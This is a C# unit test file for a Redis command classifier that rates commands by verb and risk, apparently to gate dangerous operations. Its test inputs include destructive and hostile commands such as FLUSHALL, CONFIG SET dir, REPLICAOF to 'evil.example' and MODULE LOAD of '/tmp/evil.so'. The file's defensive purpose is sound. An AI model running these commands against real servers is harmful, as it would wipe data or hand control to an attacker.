using Gatehouse.Core.Model;
using Gatehouse.Core.NoSql;

namespace Gatehouse.Core.Tests.NoSql;

public sealed class RedisCommandClassifierTests
{
    [Theory]
    [InlineData("FLUSHALL", Verb.Delete, Risk.Critical, "database", null, "all-resources")]
    [InlineData("flushall async", Verb.Delete, Risk.Critical, "database", null, "all-resources")]
    [InlineData("FlushDB", Verb.Delete, Risk.Critical, "database", null, "all-resources")]
    [InlineData("SHUTDOWN NOSAVE", Verb.Update, Risk.Critical, "server", null, "")]
    [InlineData("SHUTDOWN ABORT", Verb.Update, Risk.Low, "server", null, "")]
    [InlineData("DEL session:42", Verb.Delete, Risk.High, "key", "session:42", "")]
    [InlineData("UNLINK cache:a", Verb.Delete, Risk.High, "key", "cache:a", "")]
    [InlineData("DEL user:*", Verb.Delete, Risk.High, "key-pattern", "user:*", "")]
    [InlineData("EXPIRE k 60", Verb.Update, Risk.Medium, "key", "k", "")]
    [InlineData("RENAME a b", Verb.Update, Risk.Medium, "key", "a", "")]
    [InlineData("CONFIG SET dir /tmp", Verb.Update, Risk.High, "server", "dir", "")]
    [InlineData("config get maxmemory", Verb.Read, Risk.None, "server", "maxmemory", "")]
    [InlineData("CONFIG REWRITE", Verb.Update, Risk.High, "server", null, "")]
    [InlineData("DEBUG SEGFAULT", Verb.Update, Risk.High, "server", null, "")]
    [InlineData("SCRIPT FLUSH", Verb.Delete, Risk.High, "script", null, "")]
    [InlineData("FUNCTION FLUSH", Verb.Delete, Risk.High, "function", null, "")]
    [InlineData("CLIENT KILL ID 5", Verb.Update, Risk.High, "connection", null, "")]
    [InlineData("CLIENT LIST", Verb.Read, Risk.None, "connection", null, "")]
    [InlineData("EVAL \"return redis.call('flushall')\" 0", Verb.Execute, Risk.High, "script", null, "opaque")]
    [InlineData("EVALSHA abc 0", Verb.Execute, Risk.High, "script", null, "opaque")]
    [InlineData("MIGRATE host 6379 key 0 5000", Verb.Update, Risk.High, "key", "key", "")]
    [InlineData("SWAPDB 0 1", Verb.Update, Risk.High, "database", null, "")]
    [InlineData("REPLICAOF evil.example 6379", Verb.Update, Risk.Critical, "server", null, "")]
    [InlineData("REPLICAOF NO ONE", Verb.Update, Risk.High, "server", null, "")]
    [InlineData("ACL SETUSER bob on >pw +@all", Verb.Grant, Risk.High, "user", "bob", "")]
    [InlineData("ACL DELUSER bob", Verb.Delete, Risk.High, "user", "bob", "")]
    [InlineData("MODULE LOAD /tmp/evil.so", Verb.Execute, Risk.High, "module", "/tmp/evil.so", "opaque")]
    [InlineData("CLUSTER RESET HARD", Verb.Update, Risk.Critical, "cluster", null, "")]
    [InlineData("CLUSTER NODES", Verb.Read, Risk.None, "cluster", null, "")]
    [InlineData("GET user:1", Verb.Read, Risk.None, "key", "user:1", "")]
    [InlineData("mget a b c", Verb.Read, Risk.None, "key", "a", "")]
    [InlineData("HGETALL user:1", Verb.Read, Risk.None, "key", "user:1", "")]
    [InlineData("KEYS *", Verb.Read, Risk.None, "key-pattern", "*", "")]
    [InlineData("SCAN 0 MATCH user:* COUNT 100", Verb.Read, Risk.None, "key-pattern", "user:*", "")]
    [InlineData("INFO memory", Verb.Read, Risk.None, "database", null, "")]
    [InlineData("PING", Verb.Read, Risk.None, "database", null, "")]
    [InlineData("TTL k", Verb.Read, Risk.None, "key", "k", "")]
    [InlineData("DBSIZE", Verb.Read, Risk.None, "database", null, "")]
    [InlineData("MONITOR", Verb.Read, Risk.None, "database", null, "")]
    [InlineData("LRANGE queue 0 -1", Verb.Read, Risk.None, "key", "queue", "")]
    [InlineData("ZRANGE board 0 10 WITHSCORES", Verb.Read, Risk.None, "key", "board", "")]
    [InlineData("SET k v", Verb.Update, Risk.Low, "key", "k", "")]
    [InlineData("SET \"key with space\" 'v'", Verb.Update, Risk.Low, "key", "key with space", "")]
    [InlineData("HSET user:1 name bob", Verb.Update, Risk.Low, "key", "user:1", "")]
    [InlineData("LPUSH queue job", Verb.Update, Risk.Low, "key", "queue", "")]
    [InlineData("INCR counter", Verb.Update, Risk.Low, "key", "counter", "")]
    [InlineData("HDEL user:1 name", Verb.Update, Risk.Medium, "key", "user:1", "")]
    [InlineData("LTRIM queue 0 0", Verb.Delete, Risk.High, "key", "queue", "")]
    [InlineData("RESTORE k 0 payload REPLACE", Verb.Update, Risk.High, "key", "k", "")]
    [InlineData("XGROUP DESTROY stream grp", Verb.Delete, Risk.High, "key", "stream", "")]
    [InlineData("FROBNICATE x", Verb.Unknown, Risk.High, "server", null, "opaque")]
    [InlineData("GET \"unterminated", Verb.Unknown, Risk.High, "server", null, "opaque,parse-error")]
    public void ClassifyScript_Command_MatchesExpectation(string line, Verb verb, Risk risk, string kind, string? id, string tags)
    {
        var actions = RedisCommandClassifier.ClassifyScript(line);
        var action = actions.OrderByDescending(a => a.Risk).First();
        var summary = string.Join(" | ", actions.Select(a => $"{a.Verb}/{a.Risk}/{a.RuleId}/{a.Target.Kind}:{a.Target.Id}"));
        action.Verb.ShouldBe(verb, summary);
        action.Risk.ShouldBe(risk, summary);
        action.Target.Kind.ShouldBe(kind, summary);
        action.Target.Id.ShouldBe(id, summary);
        action.Tags.OrderBy(t => t, StringComparer.Ordinal).ShouldBe((tags.Length == 0 ? [] : tags.Split(',')).OrderBy(t => t, StringComparer.Ordinal), summary);
        action.Tool.ShouldBe("redis");
        action.Path.ShouldBe("redis");
    }

    [Fact]
    public void Classify_DelWithSeveralKeys_YieldsOneActionPerKey()
    {
        var actions = RedisCommandClassifier.Classify(["del", "a", "b", "c"]);
        actions.Select(a => a.Target.Id).ShouldBe(["a", "b", "c"]);
        actions.ShouldAllBe(a => a.Verb == Verb.Delete && a.Risk == Risk.High && !a.Reversible);
    }

    [Fact]
    public void Classify_NoArguments_YieldsNoActions()
    {
        RedisCommandClassifier.Classify([]).ShouldBeEmpty();
    }

    [Fact]
    public void Classify_ArgumentsKeepSpaces_AreNotResplit()
    {
        var action = RedisCommandClassifier.Classify(["SET", "a key", "v"]).Single();
        action.Target.Id.ShouldBe("a key");
    }

    [Fact]
    public void ClassifyScript_SeveralLines_ClassifiesEachAndSkipsBlanks()
    {
        var actions = RedisCommandClassifier.ClassifyScript("GET a\n\n  SET b 1\r\nFLUSHALL\n");
        actions.Select(a => a.Verb).ShouldBe([Verb.Read, Verb.Update, Verb.Delete]);
    }

    [Fact]
    public void ClassifyScript_Empty_YieldsNoActions()
    {
        RedisCommandClassifier.ClassifyScript("\n \n").ShouldBeEmpty();
    }
}
